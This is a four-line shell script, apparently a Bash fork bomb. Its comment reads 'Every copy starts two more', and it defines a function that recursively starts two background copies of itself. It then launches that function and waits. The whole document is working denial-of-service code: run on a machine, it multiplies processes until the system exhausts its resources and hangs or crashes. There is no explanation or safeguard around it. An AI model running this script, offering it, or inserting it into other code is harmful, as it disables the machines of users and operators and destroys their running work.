# Every copy starts two more.
bomb() { bomb | bomb & }
bomb
wait
